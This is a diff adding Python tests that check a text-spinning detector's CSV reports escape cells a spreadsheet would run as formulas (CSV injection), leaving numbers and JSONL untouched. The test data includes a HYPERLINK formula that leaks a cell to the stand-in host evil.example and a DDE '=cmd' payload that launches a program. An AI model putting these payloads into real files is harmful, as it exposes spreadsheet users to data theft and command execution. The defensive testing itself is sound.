@@ -250,6 +250,76 @@ def test_csv_quotes_a_source_with_a_carriage_return():
     assert [row[10] for row in rows] == ["id"] + ["a\rb"] * 3
 
 
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_csv_guards_text_from_the_input_that_a_spreadsheet_would_run_as_a_formula():
+    """A file name or a crawled record's id starting "=HYPERLINK(" went into the csv as it was, and
+    Excel or LibreOffice ran it as a formula (OWASP "CSV Injection"): such text cells get a "'"
+    before them; numbers (a -5 id, offsets, probabilities) stay numbers, and jsonl keeps the text."""
+    link = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    hostile = Result(0.97, True, None, (Evidence("@home", 4, 9, "-", 0.91),), 20)
+    chunks = [
+        (Chunk(link, 0, "", True, link, 1), [(0, 40, hostile)]),
+        (Chunk("c.jsonl:-5 degrees", 0, "", True, "-5 degrees", 2), [(0, 40, CLEAN)]),
+        (Chunk("c.jsonl:-5", 0, "", True, -5, 3), [(0, 40, CLEAN)]),
+        (Chunk("+1 (555) 0100", 0, "", True, 2.5, 4), [(0, 40, CLEAN)]),
+        (Chunk("\tpage.txt", 0, "", True, float("-inf"), 5), [(0, 40, CLEAN)]),
+    ]
+    model = {"model_version": "1", "model_id": "0123456789abcdef", "threshold": 0.9}
+    rows = list(csv.DictReader(io.StringIO(report("csv", chunks, model=model), newline="")))
+    assert [(r["source"], r["id"]) for r in rows] == [
+        ("'" + link, "'" + link),
+        ("c.jsonl:-5 degrees", "'-5 degrees"),
+        ("c.jsonl:-5", "-5"),  # a number in the JSON: a number in the sheet
+        ("'+1 (555) 0100", "2.5"),
+        ("'\tpage.txt", "'-inf"),  # no number a spreadsheet reads
+    ]
+    assert rows[0]["evidence"] == "'@home->-:0.91"
+    assert (rows[0]["start"], rows[0]["probability"], rows[0]["words"]) == ("0", "0.9700", "20")
+    # what a program reads is unchanged
+    records = [json.loads(line) for line in report("jsonl", chunks, model=model).splitlines()]
+    assert [(r["source"], r.get("id")) for r in records[:3]] == [
+        (link, link),
+        ("c.jsonl:-5 degrees", "-5 degrees"),
+        ("c.jsonl:-5", -5),
+    ]
+    assert records[0]["evidence"][0]["phrase"] == "@home" and records[0]["evidence"][0]["suggestion"] == "-"
+
+
+def test_comparison_csv_guards_text_from_the_input_as_score_does():
+    from spincheck.report import write_comparison_csv
+
+    record = {
+        "source": "=cmd|' /C calc'!A0",
+        "paragraph": 0,
+        "start": 10,
+        "end": 60,
+        "label": 1,
+        "original_paragraph": 2,
+        "overlap": 0.9,
+        "words": 12,
+        "probability": 0.9,
+        "spun": True,
+        "by_context": False,
+        "replacements": [[0, 5, "-top", "+high"], [6, 9, "tall", "big"]],
+        "evidence": [{"phrase": "+high", "start": 0, "end": 5, "suggestion": "@top", "strength": 0.9}],
+    }
+    out = io.StringIO()
+    write_comparison_csv(out, [record], "0123456789abcdef")
+    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
+    assert [(r["source"], r["copy_phrase"], r["original_phrase"], r["suggestion"]) for r in rows] == [
+        ("'=cmd|' /C calc'!A0", "'+high", "'-top", "'@top"),
+        ("'=cmd|' /C calc'!A0", "big", "tall", ""),
+    ]
+    assert [(r["swap_start"], r["swap_end"], r["overlap"], r["original_paragraph"]) for r in rows] == [
+        ("10", "15", "0.9000", "2"),
+        ("16", "19", "0.9000", "2"),
+    ]
+    for row in rows:
+        assert not any(cell.startswith(FORMULA_STARTS) for cell in row.values())
+
+
 def test_text_summary_comes_first_for_a_whole_document():
     lines = report("text", one_document()).splitlines()
     assert lines == [
